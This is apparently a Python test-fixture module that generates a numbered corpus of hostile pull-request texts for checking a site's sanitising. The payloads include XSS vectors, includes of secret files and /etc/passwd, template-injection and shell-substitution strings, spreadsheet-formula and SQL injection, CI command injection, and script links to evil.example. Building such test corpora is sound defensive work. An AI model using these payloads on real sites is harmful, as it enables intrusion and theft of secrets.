"""Texts that somebody could put into a pull request to get more than text onto the site, made of families and payloads.

Each text has a number; a script in it calls `ran(NUMBER)`, so that the page that runs it says which one it was.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from itertools import zip_longest

SECRET_FILES = (".env", "../secret.txt", "secret.txt", "content/.secret.yml", "/tmp/claim-briefs-secret.txt")
"""Where secrets lie in and around a project, as a text of a page below content/ or docs/ may name them."""
SECRET = "PLANTED-SECRET"
"""How every planted secret begins."""
RUN = "ran(#)"
SCRIPTS = (
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script >{run}</script >", "<script/x>{run}</script>",
    "<script>{run}//", "<script type=module>{run}</script>", "<svg><script>{run}</script></svg>",
    "<scr<script>ipt>{run}</script>", "<svg/onload={run}>", "<svg onload='{run}'>", "<body onload={run}>",
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'>", '<img src="x" onerror="{run}">',
    "<IMG SRC=x ONERROR={run}>", "<img/src=x/onerror={run}>", "<img src=x onerror\n={run}>",
    "<image href=x onerror={run}>", "<video><source onerror={run}></video>", "<audio src=x onerror={run}></audio>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>", "<marquee onstart={run}>x</marquee>", "<p onmouseover={run}>hover</p>",
    "<b onmouseenter={run} onclick={run}>hover</b>", "<div style=animation-name:x onanimationstart={run}>x</div>",
    "<iframe srcdoc='&lt;script&gt;parent.{run}&lt;/script&gt;'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>", "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>", "<form><button formaction='javascript:{run}'>x</button></form>",
    "<link rel=stylesheet href='javascript:{run}'>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<base href='javascript:/*'><a href='{run}'>x</a>",
)  # fmt: skip
BREAKERS = (
    "", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "-->", "]]>", "?>", "\">",
    "'>", "`>", "</p>", "</td></tr></table>", "</a>", "</code></pre>", "</svg>", "</math>", "</q>", "</span></div>",
    "</head>", "</html>",
)  # fmt: skip
OPENERS = (
    "<title>", "<textarea>", "<style>", "<noscript>", "<template>", "<xmp>", "<plaintext>", "<!--", "<![CDATA[",
    "<?xml ", "<noembed>", "<noframes>", "<select>", "<table>", "<svg><style>",
    "<math><annotation-xml encoding='text/html'>", "<svg><desc>", "<svg><foreignObject>", "<math><mi>",
    "<form id=a><form id=b>", "<details>", "<dialog open>",
)  # fmt: skip
ADDRESSES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java&#10;script:{run}", "&#106;avascript:{run}",
    "javascript&colon;{run}", "javascript:{run}//https://example.org", "data:text/html,<script>parent.{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload='{run}'>",
    "vbscript:{run}", "file:///etc/passwd", "//evil.example/x{n}", "https://evil.example/x{n}.js",
    "blob:https://evil.example/{n}", "about:blank#{n}", "https:evil.example/{n}",
    "http://evil.example:80@127.0.0.1/{n}", "\\\\evil.example\\{n}", "../../../secret.txt?{n}",
)  # fmt: skip
LINKS = (
    "[a]({to})", "[a](<{to}>)", "![a]({to})", '[a]({to} "t")', "[a][r]\n\n[r]: {to}", "<{to}>",
    "<a href='{to}'>bait</a>", "<a href={to}>bait</a>", "<img src='{to}'>", "<iframe src='{to}'></iframe>",
    "<script src='{to}'></script>", "{to}", "[![a]({to})]({to})", "[a]( {to} )", "[a]({to}){{: target=_blank}}",
    "<form action='{to}'><button>bait</button></form>",
)  # fmt: skip
MARKDOWN = (
    "# one {n}", "## two {n} ##", "###### six {n}", "a {n}\n===", "a {n}\n---", "===", "***", "- - -", "- item {n}",
    "* item {n}", "+ item {n}", "1. item {n}", "{n}) item", "{n}. item", "> quote {n}", ">> deeper {n}",
    "    code {n}", "\tcode {n}", "```\ncode {n}\n```", "``` {{.python onclick={run}}}\nx{n}\n```", "~~~ {n}",
    "`code {n}`", "``a`b {n}``", "*a {n}*", "**a {n}**", "_a {n}_", "__a {n}__", "***a {n}***", "~~a {n}~~", "~a{n}~",
    "^a{n}^", "==a {n}==", "++a {n}++", "{{++a {n}++}}", "{{--a {n}--}}", "{{>>a {n}<<}}", "$x_{n}$", "$$x_{n}$$",
    "\\(x{n}\\)", "\\[x{n}\\]", "\\*{n}", "{n}\\", "a{n}  \nb", "[^{n}]", "[^{n}]: words", "*[HTML{n}]: words",
    "| a | {n} |", "| a | b |\n|---|---|\n| {n} | y |", "--- | --- {n}", "[TOC]", "[[TOC]] {n}", "[_TOC_] {n}",
    "term {n}\n:   words", ": words {n}", "!!! note \"{n}\"", "!!! danger {n}\n    x", "??? x {n}",
    "???+ x {n}\n    y", "=== \"Tab {n}\"\n    x", "/// note | {n}\nx\n///", "- [ ] task {n}", "- [x] task {n}",
    ":smile: {n}", ":material-account-{n}:", "(c) (tm) --> <-- =/= {n}", "[[wiki {n}]]", "<https://evil.example/{n}>",
    "<a{n}@example.org>", "&copy;{n}", "&#60;b&#62;{n}", "&lt;b&gt;{n}", "&amp;lt;b&amp;gt;{n}", "a_b_{n}_c",
    "*a_b {n}*", "![a{n}](b.png)", "![a{n}][b]", "[a{n}]: https://evil.example/", "[a{n}]", "[a](b){{: #c{n} }}",
    "a {n} {{: .cb-x #id{n} onclick={run} }}", "{{: #__config }} {n}", "{{#id{n}}}", "{{ .cls{n} }}",
    "{{: style=x }} {n}", "{n} {{ onclick={run} }}", "---\ntitle: {n}\n---", "---\ntemplate: ../secret.txt\n---\n{n}",
    "title: x\nhide: [{n}]", "\\newcommand{{{n}}}", "@@a{n}@@", "@name{n}", "#{n}", "x#y{n}", "! {n}", "!{n}!",
    "<p markdown=\"1\">*a {n}*</p>", "<div markdown=span>*a {n}*</div>", "</div> <div markdown=1>{n}",
    "<div class='cb' markdown='1'>\n\n# {n}",
)  # fmt: skip
SNIPPETS = (
    '--8<-- "{file}"', "--8<-- '{file}'", '-8<- "{file}"', '---8<--- "{file}"', "--8<--\n{file}\n--8<--",
    ';--8<-- "{file}"', '--8<-- "{file}:1:3"', '  --8<-- "{file}"', '--8<-- "https://evil.example/{file}"',
    '{{% include "{file}" %}}', "{{! {file} !}}", "{{{{ open('{file}').read() }}}}", "[[include:{file}]]",
    "```{{.include}}\n{file}\n```", "@include({file})", "<!--#include file=\"{file}\" -->", "!include {file}",
    "!ENV {file}", "![x]({file})", "[x]({file})", "<object data=\"{file}\"></object>",
    "<iframe src=\"{file}\"></iframe>", "<embed src=\"{file}\">", "<link rel=import href=\"{file}\">",
    "\\input{{{file}}}", "include::{file}[]", '<!DOCTYPE x [<!ENTITY s SYSTEM "{file}">]><x>&s;</x>',
    "<xi:include href=\"{file}\" parse=\"text\"/>",
)  # fmt: skip
TEMPLATES = (
    "{{{{ 7*7 }}}}", "{{{{ {n} }}}}", "{{% raw %}}{n}{{% endraw %}}", "{{% endraw %}}{{{{ {n} }}}}", "{{# {n} #}}",
    "{{{{ config }}}}{n}", "{{{{ self.__init__.__globals__ }}}}{n}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{n}", "{{% for x in range(9) %}}{n}{{% endfor %}}",
    "{{%- set x = {n} -%}}", "${{{n}}}", "${{{{ secrets.TOKEN{n} }}}}", "<%= {n} %>", "#{{{n}}}", "%(name{n})s",
    "{{n{n}}}", "{{0.__class__}}{n}", "%s%s%n{n}", "$ENV{n}", "${{HOME}}{n}", "$(id){n}", "`id`{n}",
    "{{{{ page.meta }}}}{n}", "{{{{ say('x') }}}}{n}",
)  # fmt: skip
STASHES = (
    "wzxhzdk:{n}", "klzzwxh:{n:04}", "klzzwxh:0000", "amp{n}", "qq{n}qq", "ÿwzxhzdk:{n}ÿ", "␂wzxhzdk:{n}␃",
    "␂klzzwxh:{n}␃", "zz1337820767766393qq{n}", "STX{n}ETX", "\ue000{n}\ue001", "\ufdd0{n}", "&#2;wzxhzdk:{n}&#3;",
    "&#x2;klzzwxh:{n:04}&#x3;", "\\u0002{n}\\u0003", "\ufff9{n}\ufffb", "\ue8ff{n}",
)  # fmt: skip
DATA = (
    "={n}+1", "+{n}+1", "-{n}+1", "@SUM({n})", "=cmd|'/c calc'!A{n}", "=HYPERLINK(\"https://evil.example/{n}\")",
    "\t={n}", "\r={n}", "＝{n}+1", "＋{n}", "－{n}", "＠SUM({n})", "'={n}", "\"={n}", " ={n}", "\";={n}", "a,={n}",
    "a\n={n}", "=1+1;{n}", "%0A={n}", "'; DROP TABLE claims; --{n}", "\" OR {n}={n} --", "\\\"}}{n}",
    "\\u003cscript>{n}", "</script><!--<script>{n}", "<!--<script>{n}", "<!-- {n} --!>", "]]>{n}", "<![CDATA[{n}]]>",
    "<?xml version='1.0'?>{n}", "<?php echo {n} ?>", "<!DOCTYPE html>{n}", "&xxe{n};", "<!ENTITY x{n} 'y'>", "&#0;{n}",
    "&#xFFFF;{n}", "&lol{n};", "BEGIN:VEVENT;{n}", "a\nEND:VCALENDAR {n}", "a;b\\,c\\n{n}",
    "@article{{x{n}, title={{y}}}}", "}} @comment{{{n}", "\\write18{{{n}}}", "\\input{{x{n}}}", "{{\"@id\":\"{n}\"}}",
    "],{{\"x\":{n}", "\\", "\\\\{n}", "\"{n}", "'{n}", "`{n}", "null{n}", "NaN", "1e{n}", "0x{n}", "true", "no",
)  # fmt: skip
COMMANDS = (
    "::set-env name=X{n}::y", "::set-output name=x::{n}", "::add-mask::{n}", "::error file=x,line={n}::y",
    "::stop-commands::{n}", "::debug::{n}", "::group::{n}", "  ::warning::{n}", "##[command]{n}", "##[error]{n}",
    "a ##[add-mask]{n}", "##[set-env name=X]{n}", "##vso[task.setvariable variable=x]{n}", "%0A::error::{n}",
    "%0D%0A::error::{n}", "a\n::add-mask::{n}", "a\u2028::add-mask::{n}", "a\u0085::error::{n}",
    "::save-state name=x::{n}", "::echo::on {n}", "##teamcity[message text='{n}']", "\\e[31m{n}", "^[[31m{n}",
    "\u241b[2J{n}", "travis_fold:start:{n}", "section_start:{n}:x", "$GITHUB_ENV {n}", ">> $GITHUB_OUTPUT {n}",
    "@octocat{n}", "fixes #{n}",
)  # fmt: skip
LETTERS = (
    "\u200b{n}", "a\u200bb{n}", "\u200d{n}", "\u2060{n}", "\u00ad{n}", "so\u00adft{n}", "\ufeff{n}", "a\u2028b{n}",
    "a\u2029b{n}", "a\u0085b{n}", "\u00a0{n}\u00a0", "\u3000{n}", "\u061c{n}", "\u200e{n}\u200f", "שלום {n} عالم",
    "{n} עברית <b>", "مرحبا *{n}*", "e\u0301{n}", "\u00e9{n}", "\u0130{n}", "ſcript{n}", "<ſcript>ran({n})</ſcript>",
    "ﬁ{n}", "①{n}", "\u2024\u2024/{n}", "𝓼cript{n}", "＜script＞ran({n})＜/script＞", "‹script›{n}", "﹤script﹥{n}",
    "ʼ{n}ʼ", "a\u0300\u0301\u0302\u0303{n}", "👩‍👩‍👧‍👦{n}", "🏴{n}", "\U000e0041{n}", "аdmin{n}", "ΑΒΓ{n}", "漢字{n}。",
    "。{n}", "{n}！？", "\u180e{n}", "\u115f{n}", "\u2800{n}", "x" * 400 + "{n}", "w{n}" + "ö" * 200, "a " * 30 + "{n}",
    "<" * 60 + "{n}", "[" * 60 + "{n}" + "]" * 60, "(" * 60 + "{n}", "*" * 80 + "{n}", "_" * 80 + "{n}",
    "`" * 80 + "{n}", "\\" * 80 + "{n}", "&" * 60 + "{n}", "!" * 50 + "[{n}", "> " * 25 + "{n}", "- " * 25 + "{n}",
    "|" * 60 + "{n}", "#" * 40 + " {n}", "..." + "{n}", "…{n}", "“{n}”", "„{n}“", "«{n}»", "–{n}—", "‘{n}’",
)  # fmt: skip
NAMES = (
    "__config", "__search", "__toc", "__drawer", "__palette", "location", "document", "window", "constructor",
    "__proto__", "prototype", "hasOwnProperty", "toString", "cookie", "body", "forms", "attributes", "getElementById",
    "innerHTML", "parentNode", "nodeName", "submit", "action", "children", "content", "search", "name", "defaultView",
    "currentScript", "cb-search", "claim-1", "def-x", "top", "self", "ran", "md-header", "__md_get", "__md_scope",
    "_md", "index", "NaN", "undefined",
)  # fmt: skip
CLOBBERS = (
    "{name}", "# {name}", "<a id={name}>{n}</a>", "<img name={name}>", "<form id={name}><input name={name}></form>",
    "a {{: #{name} }}", "[x](#{name})", "<p id='{name}'>{n}", "<div hidden id={name}>{n}</div>", "[{name}]: {n}",
    "[[entity:{name}]]",
)  # fmt: skip
DIRECTIVES = (
    "[[claim:x{n}]]", "[[claim:c-1|{n}]]", "[[timeline: about=e-{n}]]", "[[term:t-1]] {n}",
    "[[source:s-1|<b>{n}</b>]]", "[[brief:b-1]] {n}", "[[ claim:c-1 ]]{n}", "[[[claim:c-1]]]{n}", "[[claim:c-1",
    "claim:c-1]] {n}", "[[claim:../../x{n}]]", "[x](claim:c-{n})", "(#def-x{n})", "[a](../claims/c-1.md) {n}",
    "[a](c-1.md#x) {n}", "[a](#claim-c-{n})", "\ue000claim{n}", "{{place{n}}}", "{{name}} {{site}} {n}", "{{what}}{n}",
    "TBD {n}", "id: x{n}", "- {{id: x{n}}}", "&anchor{n}", "*alias{n}", "!!python/object:x{n}",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Hostile:
    """One hostile text, its number, and the family that it comes from."""

    number: int
    family: str
    text: str


def _shapes() -> Mapping[str, tuple[str, ...]]:
    """The shapes of texts by family; `{run}` and `{n}` stand for the script and the number of a text."""
    scripts = {
        f"script {place + 1}": tuple(f"{breaker}{script}" for breaker in BREAKERS)
        for place, script in enumerate(SCRIPTS)
    }
    openers = {
        f"after {opener}": tuple(f"{opener}x{breaker}<img src=x onerror={{run}}>" for breaker in BREAKERS[1:])
        for opener in OPENERS
    }
    links = {
        f"link {place + 1}": tuple(link.replace("{to}", address) for address in ADDRESSES)
        for place, link in enumerate(LINKS)
    }
    clobbers = {
        f"clobber {place + 1}": tuple(shape.replace("{name}", name) for name in NAMES)
        for place, shape in enumerate(CLOBBERS)
    }
    snippets = {
        "snippets": tuple(shape.replace("{file}", file) for shape in SNIPPETS for file in SECRET_FILES),
        "snippets in text": tuple(
            f"so\n\n{shape}\n\nit was".replace("{file}", file) for shape in SNIPPETS[:9] for file in SECRET_FILES
        ),
    }
    plain = {
        "markdown": MARKDOWN,
        "markdown after a word": tuple(f"word {shape}" for shape in MARKDOWN),
        "markdown on a second line": tuple(f"word\n{shape}" for shape in MARKDOWN),
        "markdown in a new paragraph": tuple(f"word\n\n{shape}\n\nword" for shape in MARKDOWN),
        "markdown before a script": tuple(f"{shape} <img src=x onerror={{run}}>" for shape in MARKDOWN),
        "templates": TEMPLATES,
        "stashes": STASHES,
        "data": DATA,
        "data after a word": tuple(f"word {shape}" for shape in DATA),
        "commands": COMMANDS,
        "letters": LETTERS,
        "directives": DIRECTIVES,
        "stashes in markup": tuple(f"<b>{shape}</b> *{shape}*" for shape in STASHES),
        "templates in markup": tuple(f"<img src=x onerror={{run}}>{shape}" for shape in TEMPLATES),
    }
    return {**plain, **snippets, **scripts, **openers, **links, **clobbers}


def _numbered() -> Iterator[Hostile]:
    """The families one text each in turn, so that every stretch of the corpus holds many of them."""
    shapes, seen, number = _shapes(), set(), 0
    rounds = zip_longest(*(tuple((family, shape) for shape in listed) for family, listed in shapes.items()))
    for family, shape in (pair for turn in rounds for pair in turn if pair is not None):
        script = RUN.replace("#", str(number))
        try:
            text = shape.format(run=script, n=number)
        except (ValueError, KeyError, IndexError, AttributeError):
            text = shape.replace("{run}", script).replace("{n}", str(number))
        if " ".join(text.split()) and text not in seen:
            seen.add(text)
            yield Hostile(number, family, text)
            number += 1


CORPUS = tuple(_numbered())
"""Every hostile text, the same in each run."""
FAMILIES = tuple(dict.fromkeys(item.family for item in CORPUS))


def sample(count: int) -> tuple[Hostile, ...]:
    """So many texts, spread over the whole corpus and over all families alike; all of them where it holds no more."""
    if count >= len(CORPUS):
        return CORPUS
    first = CORPUS[: len(FAMILIES)]
    rest = CORPUS[len(FAMILIES) :]
    step = max(1, len(rest) // max(1, count - len(first)))
    return (*first, *rest[::step])[:count] if count > len(first) else first[:count]
